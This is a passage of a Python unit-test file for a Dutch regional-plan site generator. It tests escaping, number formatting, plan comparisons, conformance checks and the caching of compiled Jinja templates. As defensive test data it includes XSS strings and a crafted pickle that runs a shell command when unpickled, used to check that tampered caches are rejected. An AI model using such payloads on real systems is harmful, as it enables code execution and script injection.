"""Units without MkDocs or a browser: links, escaping, Dutch words, offers, plan changes and conformance.

They run in milliseconds and name the piece that broke; the build and browser tests show the
same things as a reader meets them.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import posixpath
import re

import markdown
import pytest
from conftest import REPO

from generator.data.project import load_project
from generator.dutch import dutch_date, dutch_number, euro, plural
from generator.models import EarlierRegion, HordeFacts, KernelOffer, StatedFact
from generator.rules.changes import plan_changes
from generator.rules.conformance import check_region
from generator.rules.offer import choice_key, offers_of
from generator.site.contexts.base import link
from generator.site.escape import escape_inline

# No MkDocs build and no browser: the fast tier (./scripts/test -m unit).
pytestmark = pytest.mark.unit

PAGES = [
    "index.md",
    "bronnen.md",
    "regios/index.md",
    "regios/eemland/index.md",
    "regios/eemland/versies.md",
    "interventies/triage-training.md",
]


@pytest.fixture(scope="module")
def project():
    return load_project(REPO)


@pytest.mark.parametrize("source", PAGES)
@pytest.mark.parametrize("target", PAGES + ["regios/eemland/regioplan-eemland.pdf", "feed.xml"])
def test_a_link_is_the_relative_path_between_two_pages(source, target):
    assert str(link(source, target)) == posixpath.relpath(target, posixpath.dirname(source) or ".")
    assert str(link(source, target, "kop")).endswith("#kop")


@pytest.mark.parametrize(
    "text",
    [
        "<script>window.x=1</script>",
        "{{ 7*7 }} {% if 1 %}",
        "**vet** _schuin_ `code`",
        "[klik](javascript:x)",
        "| pijp | # kop",
        "*[HTML]: afkorting",
    ],
)
def test_escaped_text_comes_out_of_markdown_as_the_same_text(text):
    extensions = ["pymdownx.escapeall", "md_in_html", "tables", "attr_list", "abbr"]
    html = markdown.Markdown(extensions=extensions).convert(escape_inline(text))
    visible = re.sub(r"</?p>", "", html)
    assert visible == text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def test_dutch_words():
    assert dutch_date(dt.date(2024, 11, 6)) == "6 november 2024" and dutch_date(None) == ""
    assert [dutch_number(v) for v in (4.6, 2095, 3.25, 3)] == ["4,6", "2.095", "3,25", "3"]
    assert euro(3.23) == "€\u00a03,23" and euro(1234.5) == "€\u00a01.234,50"
    # A tariff of 2,885 or 0,004 euro is not 2,88 or 0,00: every decimal the source gives is shown
    # (found by an attacker: the pages and the CSV rounded what the workbook and JSON kept).
    assert euro(2.885) == "€\u00a02,885" and euro(0.004) == "€\u00a00,004" and dutch_number(4.625) == "4,625"
    from generator.site.spreadsheet import decimal

    assert [decimal(v) for v in (3.2, 2.885, 0.004, 1234.5)] == ["3,20", "2,885", "0,004", "1234,50"]
    assert plural(1, "PDF", "PDF's") == "1 PDF" and plural(0, "PDF", "PDF's") == "0 PDF's"


def test_offered_means_verplicht_or_aangeboden(project):
    for region in project.regions.values():
        offers = offers_of(project.catalogue, region)
        assert len(offers) == len(region.interventies)
        assert {o.key for o in offers if o.offered} == {
            choice_key(c.interventie, c.variant or c.vorm) for c in region.interventies if c.status in ("verplicht", "aangeboden")
        }


def test_a_whole_copy_of_a_plan_has_no_changes_against_itself(project):
    for region in project.regions.values():
        copy = EarlierRegion.model_validate({**region.model_dump(), "gegevens": "volledig"})
        assert plan_changes(project.catalogue, copy, region, region.interventies[0].bron[0]).changes == []


def test_a_tariff_change_says_what_the_plan_did_not_state(project):
    # Oost-Gelderland's plan gives Menzis' tariff without a prestatiecode. Had a later version
    # added the code, the change read "Was: € 2,88 · Nu: € 2,88 (prestatie 13050)": as if there
    # had been no code, where the plan only did not name one.
    region = project.regions["oost-gelderland"]
    tariffs = region.financiering.tarieven
    assert tariffs[0].prestatiecode is None and tariffs[0].jaar == 2023
    later = region.model_copy(
        update={
            "financiering": region.financiering.model_copy(
                update={"tarieven": [tariffs[0].model_copy(update={"prestatiecode": "13050"}), *tariffs[1:]]}
            )
        }
    )
    earlier = EarlierRegion.model_validate({**region.model_dump(), "gegevens": "volledig"})
    (change,) = [c for c in plan_changes(project.catalogue, earlier, later, region.interventies[0].bron[0]).changes if c.part == "Tarieven"]
    assert (change.old, change.new) == ("€\u00a02,88 (prestatiecode niet vermeld)", "€\u00a02,88 (prestatie 13050)"), change
    # A tariff whose year the plan does not name is called so, not left without a year.
    no_year = region.model_copy(
        update={
            "financiering": region.financiering.model_copy(
                update={"tarieven": [tariffs[0].model_copy(update={"jaar": None}), *tariffs[1:]]}
            )
        }
    )
    subjects = {c.subject for c in plan_changes(project.catalogue, earlier, no_year, region.interventies[0].bron[0]).changes}
    assert f"{tariffs[0].verzekeraar}, {tariffs[0].eenheid}, jaar niet vermeld" in subjects, subjects


def test_a_partial_version_compares_only_what_it_states(project):
    region = project.regions["zuid-holland-noord"]
    earlier = next(iter(project.earlier_versions["zuid-holland-noord"].values()))
    comparison = plan_changes(project.catalogue, earlier, region, region.versiegeschiedenis[-1].bron)
    kinds = {(c.subject, c.kind) for c in comparison.changes}
    assert ("Anders triëren door middel van triage training", "nieuw") in kinds
    # Interventions the 2023 data does not mention are neither new nor removed, but not compared.
    assert not any(c.kind == "vervallen" for c in comparison.changes)
    assert "Uitbreiding van personele capaciteit" in comparison.not_compared
    # Without the support and wording of 2023, only the status can change.
    assert not any("ondersteuning" in c.subject or "minimale eis" in c.subject for c in comparison.changes)


def test_every_rule_kind_a_region_can_have_is_known_to_the_plan_check():
    from generator.rules import plancheck, planrules

    project = load_project(REPO)
    kinds = {rule["soort"] for region in project.regions.values() for rule in planrules.rules_for_region(project, region)["regels"]}
    assert kinds and kinds <= set(plancheck.kinds())


def test_the_plan_checks_constants_read_as_text_are_what_v8_reads():
    # The build reads the outcomes, their symbols and the counting rule kinds from plantoets.js as
    # text, without V8; what the script itself runs with must be the same.
    from generator.rules import plancheck

    for name in ("OUTCOME_ORDER", "SYMBOLS", "COUNTING"):
        assert plancheck._constant(name) == plancheck._engine().call(f"(() => regioplanToets.{name})"), name
    assert plancheck.outcome_order() == ["voldoet niet", "niet te beoordelen", "voldoet"]


def test_the_plan_builder_has_no_check_of_its_own():
    # One implementation: the builder takes the check from plantoets.js, which the CLI runs too.
    script = (REPO / "content" / "javascripts" / "planbouwer.js").read_text(encoding="utf-8")
    assert "var KINDS" not in script and "function checkPlan" not in script
    assert "window.regioplanToets" in script


def test_the_published_schemas_are_the_models_whether_made_or_taken_from_the_cache(tmp_path, monkeypatch):
    from generator.data import schema
    from generator.data.schema import CACHE_DIR, published_schemas, schemas

    monkeypatch.setattr(schema, "SHIPPED", tmp_path / "niet-meegeleverd.json")  # as when the models changed since
    earlier = tmp_path / CACHE_DIR / "schema-van-eerdere-code.json"
    earlier.parent.mkdir(parents=True)
    earlier.write_text("{}", encoding="utf-8")
    assert published_schemas(tmp_path) == schemas()  # made, and kept in place of what earlier code made
    (entry,) = (tmp_path / CACHE_DIR).iterdir()
    assert published_schemas(tmp_path) == schemas()  # taken from the cache
    entry.write_text('{"regio.schema.json": "afgebroken', encoding="utf-8")  # a damaged entry is made again
    assert published_schemas(tmp_path) == schemas()
    assert json.loads(entry.read_text(encoding="utf-8")) == schemas()


def test_a_first_build_publishes_the_schemas_shipped_with_the_code_without_making_them(tmp_path, monkeypatch):
    """Making them takes pydantic about 0.1 CPU-s of every first build (an empty project cache);
    the package carries them, made from these very models (`regioplan schema` writes them)."""
    from generator.data import schema

    shipped = json.loads(schema.SHIPPED.read_text(encoding="utf-8"))
    assert shipped["code"] == schema._models_key(), "stale: run `regioplan schema`"
    assert shipped["schemas"] == schema.schemas(), "stale: run `regioplan schema`"
    monkeypatch.setattr(schema, "_pydantic", lambda: shipped["pydantic"])  # as made, whatever pydantic this machine has

    def not_made() -> dict:
        raise AssertionError("made again although the package carries them")

    monkeypatch.setattr(schema, "schemas", not_made)
    assert schema.published_schemas(tmp_path) == shipped["schemas"]
    assert not (tmp_path / schema.CACHE_DIR).exists()  # nothing to keep: the package has them


@pytest.mark.parametrize(
    "carried",
    [
        {"code": "andere-modellen", "pydantic": "zelfde"},  # made from other models
        {"code": "zelfde", "pydantic": "2.7.4 2.18.4"},  # made by another pydantic: other texts (found by an attacker)
        None,  # damaged
    ],
)
def test_schemas_shipped_from_other_models_or_by_another_pydantic_are_not_published(tmp_path, monkeypatch, carried):
    from generator.data import schema

    made = schema.schemas()
    other = tmp_path / "schemas.json"
    if carried is None:
        other.write_text('{"code": ', encoding="utf-8")
    else:
        these = {"code": schema._models_key(), "pydantic": schema._pydantic()}  # what "zelfde" stands for
        carried = {name: these[name] if value == "zelfde" else value for name, value in carried.items()}
        other.write_text(json.dumps({**carried, "schemas": {"regio.schema.json": "{}"}}), encoding="utf-8")
    monkeypatch.setattr(schema, "SHIPPED", other)
    assert schema.published_schemas(tmp_path / "project") == made


def test_regioplan_schema_writes_the_shipped_copy_only_in_regioplans_own_repository(tmp_path, monkeypatch):
    # Found by an attacker: in a user's project with its .venv inside, `regioplan schema` rewrote the
    # installed package's file (and failed the whole command where it could not).
    from generator.data import schema

    installed = tmp_path / "project/.venv/lib/python3.11/site-packages/generator/data/schemas.json"
    installed.parent.mkdir(parents=True)
    installed.write_text("van de installatie\n", encoding="utf-8")
    monkeypatch.setattr(schema, "SHIPPED", installed)
    written = schema.write_schemas(tmp_path / "project")
    assert installed.read_text(encoding="utf-8") == "van de installatie\n" and installed not in written
    assert (tmp_path / "project/schema/regio.schema.json").is_file()

    # Installed into the project's own folder (`pip install --target`): found by an attacker.
    vendored = tmp_path / "project/generator/data/schemas.json"
    vendored.parent.mkdir(parents=True)
    vendored.write_text("van de installatie\n", encoding="utf-8")
    monkeypatch.setattr(schema, "SHIPPED", vendored)
    assert vendored not in schema.write_schemas(tmp_path / "project")
    assert vendored.read_text(encoding="utf-8") == "van de installatie\n"

    own = _regioplan_repository(tmp_path / "regioplan") / "generator/data/schemas.json"
    own.parent.mkdir(parents=True)
    monkeypatch.setattr(schema, "SHIPPED", own)
    assert own in schema.write_schemas(tmp_path / "regioplan")
    assert json.loads(own.read_text(encoding="utf-8"))["schemas"] == schema.schemas()
    assert own.stat().st_mode & 0o777 == 0o644  # readable by whoever runs the package (found by an attacker)


def _regioplan_repository(folder):
    """A folder that is regioplan's repository as its files say so."""
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text((REPO / "pyproject.toml").read_text(encoding="utf-8"), encoding="utf-8")
    return folder


def _compiled_by_jinja(monkeypatch) -> list[str]:
    """The names of the templates Jinja compiles from here on (in any environment)."""
    import jinja2

    names: list[str] = []
    compile_template = jinja2.Environment.compile

    def compiled(self, source, name=None, filename=None, raw=False, defer_init=False):
        names.append(name)
        return compile_template(self, source, name, filename, raw, defer_init)

    monkeypatch.setattr(jinja2.Environment, "compile", compiled)
    return names


def _first_build_pages(root) -> dict:
    """The generated pages as a first build makes them: no project cache."""
    import shutil

    from generator.site.pipeline import generate_pages, lookups_for

    cache = root / ".cache"
    if cache.is_symlink():
        cache.unlink()  # the tests' shared cache
    shutil.rmtree(cache, ignore_errors=True)
    return {page.path: page.content for page in generate_pages(root, lookups_for(load_project(root), dt.date(2026, 12, 5)))}


def _skip_unless_compiled_for_this_jinja_and_python() -> None:
    import zipfile

    from generator.site import compiled

    with zipfile.ZipFile(compiled.SHIPPED) as carried:
        index = json.loads(carried.read(compiled.INDEX))
    if any(index[key] != value for key, value in compiled.made_with().items()):
        pytest.skip("the templates were compiled by another Jinja or Python than this machine has (it compiles them)")


def _template_names(root) -> set[str]:
    return {str(p.relative_to(root / "site_templates")) for p in (root / "site_templates").rglob("*.j2")}


def test_the_compiled_templates_the_package_carries_are_what_jinja_makes_of_its_templates():
    """The zip is binary: what it holds must be what anyone can read in site_templates/."""
    import zipfile

    from generator.site import compiled
    from generator.site.render import environment

    with zipfile.ZipFile(compiled.SHIPPED) as zipped:
        index = json.loads(zipped.read(compiled.INDEX))
        carried = {name: zipped.read(name) for name in zipped.namelist() if name != compiled.INDEX}
    stale = "stale: run scripts/compile-templates"
    # Made from these modules; by whichever Jinja and Python made them (another is then compiled for).
    assert index["code"] == compiled.made_with()["code"], stale
    sources = {name: (REPO / "site_templates" / name).read_text(encoding="utf-8") for name in _template_names(REPO)}
    assert index["templates"] == {name: hashlib.sha1(text.encode("utf-8")).hexdigest() for name, text in sources.items()}, stale
    assert carried.keys() == sources.keys()
    _skip_unless_compiled_for_this_jinja_and_python()
    env = environment(REPO)
    for name, source in sources.items():
        assert compiled.code_of(carried[name], source) == env.compile(source, name, f"site_templates/{name}"), name


def test_a_first_build_takes_the_templates_compiled_as_the_package_carries_them(tmp_path, monkeypatch):
    """Jinja spent about 0.2 CPU-s of every first build (no project cache yet: a fresh clone, CI, a
    new project) translating our templates; the package carries them translated."""

    from conftest import copy_project

    from generator.site import compiled

    _skip_unless_compiled_for_this_jinja_and_python()
    project = copy_project(tmp_path / "project", with_regions=True)
    jinja_compiled = _compiled_by_jinja(monkeypatch)
    pages = _first_build_pages(project.root)
    assert jinja_compiled == []
    # The very pages Jinja makes when it compiles them itself.
    monkeypatch.setattr(compiled, "SHIPPED", tmp_path / "niet-meegeleverd.zip")
    assert _first_build_pages(project.root) == pages
    assert set(jinja_compiled) <= _template_names(project.root) and len(jinja_compiled) > 20


def test_a_template_the_project_changed_is_compiled_from_its_own_text(tmp_path, monkeypatch):
    # The threat: code compiled from the package's text shown for a template the project rewrote.
    from conftest import copy_project

    _skip_unless_compiled_for_this_jinja_and_python()
    project = copy_project(tmp_path / "project", with_regions=True)
    project.replace("site_templates/leidraad/index.md.j2", "\n", "\nEigen tekst van deze projectgroep.\n")
    project.replace("site_templates/_toetsing.md.j2", "\n", "\n{# eigen opmerking #}\n")  # an included template
    jinja_compiled = _compiled_by_jinja(monkeypatch)
    pages = _first_build_pages(project.root)
    assert sorted(jinja_compiled) == ["_toetsing.md.j2", "leidraad/index.md.j2"]
    assert "Eigen tekst van deze projectgroep." in pages["leidraad/index.md"]


def _with_entry(zipped: bytes, name: str, entry: bytes) -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(zipped)) as carried, zipfile.ZipFile(out, "w") as changed:
        for member in carried.namelist():
            changed.writestr(member, entry if member == name else carried.read(member))
    return out.getvalue()


def _damaged_member(zipped: bytes, name: str) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(zipped)) as carried:
        info = carried.getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    return zipped[: start + 10] + bytes(b ^ 0xFF for b in zipped[start + 10 : start + 60]) + zipped[start + 60 :]


def _index_with(zipped: bytes, **changes) -> bytes:
    import io
    import zipfile

    from generator.site import compiled

    with zipfile.ZipFile(io.BytesIO(zipped)) as carried:
        index = json.loads(carried.read(compiled.INDEX))
    return _with_entry(zipped, compiled.INDEX, json.dumps({**index, **changes}).encode())


# Each way the file can be wrong: from another Jinja or for other settings, cut short, a member's
# bytes damaged, an entry that holds no code, an entry whose checksum is a pickle that runs a
# command while it is read (found by an attacker: Jinja unpickles it).
DAMAGE = {
    "andere-jinja": lambda zipped, _: _index_with(zipped, jinja="3.0.0"),
    "andere-instellingen": lambda zipped, _: _index_with(zipped, code="andere-instellingen"),
    "andere-markupsafe": lambda zipped, _: _index_with(zipped, markupsafe="2.0.0"),
    "afgebroken": lambda zipped, _: zipped[:5000],
    "beschadigd-lid": lambda zipped, _: _damaged_member(zipped, "leidraad/index.md.j2"),
    "geen-code": lambda zipped, source: _with_entry(
        zipped, "leidraad/index.md.j2", _jinja_header(source) + __import__("marshal").dumps(42)
    ),
    "pickle-met-opdracht": lambda zipped, _: _with_entry(
        zipped, "leidraad/index.md.j2", __import__("jinja2.bccache").bccache.bc_magic + b"cos\nsystem\n(S'touch GEPIKT'\ntR."
    ),
}


def _jinja_header(source: str) -> bytes:
    import pickle

    from jinja2.bccache import bc_magic

    return bc_magic + pickle.dumps(hashlib.sha1(source.encode("utf-8")).hexdigest(), 2)


@pytest.mark.parametrize("damage", DAMAGE)
def test_compiled_templates_from_another_jinja_for_other_settings_or_damaged_are_compiled_again(tmp_path, monkeypatch, damage):
    from conftest import copy_project

    from generator.site import compiled

    project = copy_project(tmp_path / "project", with_regions=True)
    pages = _first_build_pages(project.root)
    other = tmp_path / "compiled-templates.zip"
    source = project.read("site_templates/leidraad/index.md.j2")
    other.write_bytes(DAMAGE[damage](compiled.SHIPPED.read_bytes(), source))
    monkeypatch.setattr(compiled, "SHIPPED", other)
    monkeypatch.chdir(tmp_path)
    jinja_compiled = _compiled_by_jinja(monkeypatch)
    assert _first_build_pages(project.root) == pages
    assert "leidraad/index.md.j2" in jinja_compiled
    assert not (tmp_path / "GEPIKT").exists()


def test_a_project_in_a_folder_whose_name_is_not_utf8_renders_its_templates(tmp_path):
    # Found by an attacker: the cache key of such a path ended the build in E301 (with a writable
    # project cache before this change too; without one, since).
    import os
    import shutil

    from conftest import copy_project

    from generator.site.pipeline import generate_pages, lookups_for

    plain = _first_build_pages(copy_project(tmp_path / "gewoon", with_regions=True).root)
    odd = copy_project(tmp_path / os.fsdecode(b"p\xffx"), with_regions=True)
    assert _first_build_pages(odd.root) == plain  # a writable cache
    shutil.rmtree(odd.root / ".cache")
    (odd.root / ".cache").write_text("geen map", encoding="utf-8")
    generated = generate_pages(odd.root, lookups_for(load_project(odd.root), dt.date(2026, 12, 5)))
    assert {page.path: page.content for page in generated} == plain  # no cache at all


def test_a_problem_in_a_template_as_the_package_carries_it_names_the_projects_file_and_line(tmp_path, monkeypatch):
    # Compiled elsewhere, the template must still be named where it is, at the line that asks.
    from conftest import copy_project

    from generator.errors import DataError
    from generator.site import compiled
    from generator.site.render import environment, render_template

    project = copy_project(tmp_path / "project")
    (project.root / ".cache").unlink()
    where = []
    for shipped in (compiled.SHIPPED, tmp_path / "niet-meegeleverd.zip"):
        monkeypatch.setattr(compiled, "SHIPPED", shipped)
        with pytest.raises(DataError) as raised:
            render_template(environment(project.root), "leidraad/index.md.j2", {})
        where.append(str(raised.value.diagnostics[0].position))
    first_value = next(
        n for n, line in enumerate(project.read("site_templates/leidraad/index.md.j2").splitlines(), 1) if "{{" in line or "{%" in line
    )
    assert where[0] == where[1]
    assert where[0].startswith("site_templates/leidraad/index.md.j2:") and int(where[0].split(":")[1]) >= first_value


def test_the_compiled_templates_are_written_only_in_regioplans_own_repository(tmp_path, monkeypatch):
    import shutil
    import zipfile

    from generator.site import compiled
    from generator.site.render import environment

    installed = tmp_path / "project/.venv/lib/python3.11/site-packages/generator/site/compiled-templates.zip"
    vendored = tmp_path / "project/generator/site/compiled-templates.zip"  # `pip install --target`
    shutil.copytree(REPO / "site_templates", tmp_path / "project/site_templates")
    for package in (installed, vendored):
        package.parent.mkdir(parents=True)
        package.write_bytes(b"van de installatie")
        monkeypatch.setattr(compiled, "SHIPPED", package)
        assert compiled.write_shipped(tmp_path / "project", environment(tmp_path / "project")) is None
        assert package.read_bytes() == b"van de installatie"

    own = _regioplan_repository(tmp_path / "regioplan") / "generator/site/compiled-templates.zip"
    own.parent.mkdir(parents=True)
    shutil.copytree(REPO / "site_templates", tmp_path / "regioplan/site_templates")
    monkeypatch.setattr(compiled, "SHIPPED", own)
    assert compiled.write_shipped(tmp_path / "regioplan", environment(tmp_path / "regioplan")) == own
    with zipfile.ZipFile(own) as written:
        assert set(written.namelist()) == {compiled.INDEX, *_template_names(REPO)}
    assert own.stat().st_mode & 0o777 == 0o644  # readable by whoever runs the package (found by an attacker)
    before = own.stat().st_mtime_ns
    assert compiled.write_shipped(tmp_path / "regioplan", environment(tmp_path / "regioplan")) is None  # nothing changed
    assert own.stat().st_mtime_ns == before
    # A damaged member is written again (found by an attacker: the index alone said "unchanged").
    own.write_bytes(_damaged_member(own.read_bytes(), "leidraad/index.md.j2"))
    compiled._carried.cache_clear()
    assert compiled.write_shipped(tmp_path / "regioplan", environment(tmp_path / "regioplan")) == own


# Conformance, judged on the data alone: what a plan leaves out never fails it.


def _with_horde(region, waarde: str):
    """The region with every fact of the minimale horde set to `waarde`, without explanations of its own."""
    facts = {name: StatedFact(waarde=waarde) for name in HordeFacts.model_fields}
    return region.model_copy(update={"horde": HordeFacts(**facts)})


@pytest.mark.parametrize("region_id", ["eemland", "midden-brabant", "oost-gelderland", "zuid-holland-noord"])
def test_a_horde_fact_the_plan_does_not_state_is_never_judged(project, region_id):
    """Every condition of the minimale horde follows what the plan says: unstated gives "niet te beoordelen"
    with a reason that says what is missing, and only a stated "nee" fails."""
    region = project.regions[region_id]
    outcomes = {}
    for waarde in ("ja", "nee", "niet-vermeld"):
        horde = [v for v in check_region(project, _with_horde(region, waarde)) if v.section == "horde"]
        assert horde, region_id
        outcomes[waarde] = {v.outcome for v in horde if "uit dit regioplan zelf" not in v.reason}
        if waarde == "niet-vermeld":
            assert all(v.outcome == "niet te beoordelen" for v in horde)
            assert all(re.search(r"zegt niet|noemt geen|niet vermeld", v.reason) for v in horde), [v.reason for v in horde]
    assert outcomes == {"ja": {"voldoet"}, "nee": {"voldoet niet"}, "niet-vermeld": {"niet te beoordelen"}}


def test_an_offer_counted_only_in_words_without_a_number_is_not_failed(project):
    """A kernelement where the plan names no intervention but says there are options, without a number,
    cannot be judged; without that sentence, in a complete source, the same offer fails."""
    region = project.regions["eemland"]
    leidraad = project.leidraden["leidraad-v3"]
    growth = next(g for g in leidraad.groeimodel.kernelementen if g.aanbod_minimaal)
    others = [o.choice for o in offers_of(project.catalogue, region) if o.kernelement != growth.kernelement]
    plan = region.plan.model_copy(update={"bron_volledig": True})
    bare = region.model_copy(update={"interventies": others, "aanbod_per_kernelement": [], "plan": plan})
    worded = bare.model_copy(
        update={
            "aanbod_per_kernelement": [
                KernelOffer(kernelement=growth.kernelement, tekst="Meer opties, in overleg met de RHO.", bron=growth.bron)
            ]
        }
    )
    rule = f"de regio biedt minimaal {growth.aanbod_minimaal} interventies aan"

    def verdict(region):
        return next(v for v in check_region(project, region, leidraad) if v.section == "groeimodel" and rule in v.rule)

    assert verdict(bare).outcome == "voldoet niet" and "bij naam aangeboden: 0" in verdict(bare).reason
    assert verdict(worded).outcome == "niet te beoordelen" and "opties zonder aantal" in verdict(worded).reason
    # From sources that give only part of the plan, the same offer is not judged, and the reason
    # says why: "bij naam aangeboden: 0 (geen)" alone read as a count of none.
    partial = bare.model_copy(update={"plan": region.plan.model_copy(update={"bron_volledig": False})})
    assert verdict(partial).outcome == "niet te beoordelen"
    assert "de bronnen van deze regio noemen maar een deel van haar aanbod" in verdict(partial).reason, verdict(partial).reason


def test_a_count_reached_only_by_counting_forms_of_one_intervention_is_not_judged(project):
    """Zuid-Holland Noord offers Positieve Gezondheid and SOLK/ALK for the goede gesprek: two forms of
    one national intervention (training gespreksvoering; leidraad v3 counts it as one in five forms),
    and the data's editorial note says so. 'Minimaal 2 interventies' is met only if forms count apart:
    a judgement call, so 'niet te beoordelen' (docs/toetsing.md, 'Eén maatstaf'), for every region."""
    region = project.regions["zuid-holland-noord"]
    leidraad = project.leidraden["leidraad-v3"]
    rule = "Het voeren van het goede gesprek: de regio biedt minimaal 2 interventies aan"

    def verdict(region):
        return next(v for v in check_region(project, region, leidraad) if v.rule == rule)

    assert verdict(region).outcome == "niet te beoordelen", verdict(region)
    assert "vormen van één interventie" in verdict(region).reason
    # Where the plan's own "twee interventies" stands without an editorial doubt, it is met.
    plain = [s.model_copy(update={"redactie": None}) for s in region.aanbod_per_kernelement]
    assert verdict(region.model_copy(update={"aanbod_per_kernelement": plain})).outcome == "voldoet"


def test_a_rule_within_n_years_one_of_these_is_described_with_its_title(project):
    """'Binnen twee jaar één van deze interventies' (minimaal-aantal over named interventions,
    uiterlijk): it read ', uiterlijk in jaar 2: …' on the region page, with no label."""
    from generator.models import RegionRule, SourceRef
    from generator.rules.planrules import describe_rule, rules_for_region

    region = project.regions["eemland"]
    rule = RegionRule(
        id="binnen-twee-jaar",
        soort="minimaal-aantal",
        jaar=2,
        uiterlijk=True,
        minimaal=1,
        interventies=["triage-training", "flexibele-consultduur"],
        titel="Binnen twee jaar een van deze twee",
        toelichting="Test.",
        bron=SourceRef(document="regioplan-eemland-2026", sectie="test"),
    )
    rules = rules_for_region(project, region.model_copy(update={"regels": [*region.regels, rule]}))
    described = describe_rule(next(r for r in rules["regels"] if r["id"] == "regio-binnen-twee-jaar"), rules["kernelementen"])
    assert described == "Binnen twee jaar een van deze twee (uiterlijk in jaar 2)", described


def test_an_abbreviations_meaning_enters_what_search_reads_as_text():
    # The added words are part of the page's HTML: a meaning with markup in it must arrive escaped.
    from generator.models import Glossary
    from generator.site.glossary import Mentions

    glossary = Glossary.model_validate(
        {"afkortingen": [{"afkorting": "POH", "betekenis": "praktijk <img src=x onerror=alert(1)> ondersteuner", "uitleg": "x"}]}
    )
    added = Mentions(glossary).search_words("<h1>A</h1><p>De POH belt.</p>")
    assert "<img" not in added and "&lt;img src=x onerror=alert(1)&gt;" in added and " hidden" in added
    assert Mentions(glossary).search_words("<p>Niets.</p>") == ""


def test_pagefind_reads_hidden_text_but_not_what_a_script_or_style_holds(tmp_path):
    # What the search words below rely on, asked of the engine itself: the added block is hidden
    # and must be read; the plan builder's rules (JSON in a script) are never read.
    import gzip
    import subprocess
    import sys

    (tmp_path / "index.html").write_text(
        '<!DOCTYPE html><html lang="nl"><head><title>T</title></head><body><main data-pagefind-body>'
        "<h1>Kop</h1><p>zichtbaar</p><div hidden>verborgen</div>"
        '<script type="application/json">{"a": "scriptwoord"}</script><style>.a { --stijlwoord: 1 }</style>'
        "</main></body></html>",
        encoding="utf-8",
    )
    subprocess.run([sys.executable, "-m", "pagefind_bin", "--site", str(tmp_path)], check=True, capture_output=True)
    (fragment,) = (tmp_path / "pagefind" / "fragment").iterdir()
    content = json.loads(gzip.decompress(fragment.read_bytes()).removeprefix(b"pagefind_dcd"))["content"]
    assert "zichtbaar" in content and "verborgen" in content, content
    assert "scriptwoord" not in content and "stijlwoord" not in content, content


def test_what_a_script_or_style_holds_mentions_no_abbreviation():
    # The plan builder's page carries the region's rules as JSON in a script, where intervention
    # names such as "POH-GGZ" stand; search does not read it (the test above). A page that writes
    # only the meaning in its text still needs the short form added, or "POH" does not find it.
    from generator.models import Glossary
    from generator.site.glossary import Mentions

    mentions = Mentions(
        Glossary.model_validate({"afkortingen": [{"afkorting": "POH", "betekenis": "praktijkondersteuner huisartsenzorg", "uitleg": "x"}]})
    )
    added = "(POH: praktijkondersteuner huisartsenzorg)"
    assert added in mentions.search_words(
        '<p>De praktijkondersteuner huisartsenzorg.</p><script type="application/json">{"n": "POH"}</script>'
    )
    assert added in mentions.search_words("<p>De POH belt.</p><style>/* praktijkondersteuner huisartsenzorg */</style>")
    # Text after a script is read again; with both forms there, nothing is added.
    assert mentions.search_words("<p>De POH</p><script>var a = 1;</script><p>praktijkondersteuner huisartsenzorg</p>") == ""


# Names as RHOs write them, and the cases where Unicode's order is not a Dutch reader's: a small
# first letter, an accent, an apostrophe, IJ, space against hyphen, numbers written as text.
DUTCH_NAMES = [
    "Zuid-Holland Noord", "Zuidrand", "Zuid Holland", "Zuid", "Ääbenhausen", "Aalsmeer-Oost", "de Kempen",
    "De Kempen", "Eemland", "eemvallei", "Één Lijn", "Ede", "'s-Hertogenbosch e.o.", "IJsselland", "Ijmond",
    "Oost-Gelderland", "Oostelijk Zuid-Limburg", "Midden-Brabant", "Regio 10", "Regio 2", "Émmen", "Emmen",
    # Found by an attack on the first version: the typographic apostrophe of a copied name sorted
    # after Z; punctuation has Dutch collation's own order; a ligature from a PDF tied with its letters.
    "’s-Hertogenbosch", "’t Gooi", "'t Gooi", "Gooi & Vecht", "Gooi (NH)", "Gooi - Vecht", "Gooi / Vecht",
    "Oost–Gelderland", "Oosterhout", "Regio 2 (Noord)", "Regio 2 - Zuid", "Profiel", "Pro\ufb01el",
]  # fmt: skip


def test_names_are_in_the_order_a_dutch_reader_looks_them_up():
    # The reference is Dutch collation itself: the browser's (ICU's) localeCompare with "nl", which
    # the region picker sorts by. Unicode's order put "Ääbenhausen" and "de Kempen" after "Zuid".
    from generator.dutch import alphabetical
    from generator.rules.plancheck import _engine

    dutch = _engine().eval(f"{json.dumps(DUTCH_NAMES)}.sort(function (a, b) {{ return a.localeCompare(b, 'nl'); }})")
    assert sorted(DUTCH_NAMES, key=alphabetical) == list(dutch)
    # No two names tie, so the order never depends on the order they were read in.
    assert len({alphabetical(name) for name in DUTCH_NAMES}) == len(DUTCH_NAMES)


def test_every_list_of_regions_is_in_dutch_order(tmp_path):
    # The lists readers scan for their region: the pages (every list and table comes from the
    # lookups' order), the menu, the toetsing.
    from conftest import copy_project

    from generator.data.synthetic import synthetic_region
    from generator.dutch import alphabetical
    from generator.engine.plugin import list_regions_in_nav
    from generator.rules.conformance import check_project
    from generator.site.contexts import Lookups

    project = copy_project(tmp_path / "p", with_regions=True)
    national = load_project(project.root)
    for number, name in enumerate(["de Kempen", "Ääbenhausen", "Émmen"], start=20):
        slug, text = synthetic_region(national, number)
        project.write(f"data/regios/{slug}.yml", text.replace(f"Synthetische regio {number:03d}", name))
    loaded = load_project(project.root)
    expected = sorted((r.naam for r in loaded.regions.values()), key=alphabetical)
    assert expected[0] == "Ääbenhausen" and expected.index("de Kempen") < expected.index("Eemland")
    assert [r.naam for r in Lookups(loaded, __import__("datetime").date(2026, 12, 5)).regions] == expected
    nav = [{"Regio's": "regios/index.md"}]
    list_regions_in_nav(nav, loaded)
    assert [next(iter(entry)) for entry in nav[0]["Regio's"][1:]] == expected
    assert list(dict.fromkeys(loaded.regions[v.region].naam for v in check_project(loaded))) == expected


def test_a_groeimodel_year_the_leidraad_gives_no_rule_for_reads_niet_vermeld(tmp_path):
    # The groeimodel table said "geen regel" for a kernelement's year without a rule in the data,
    # which reads as "nothing is asked"; the leidraad does not state it. (No year lacks one in the
    # real data: here anders werken's year 2 is taken out.)
    from conftest import copy_project

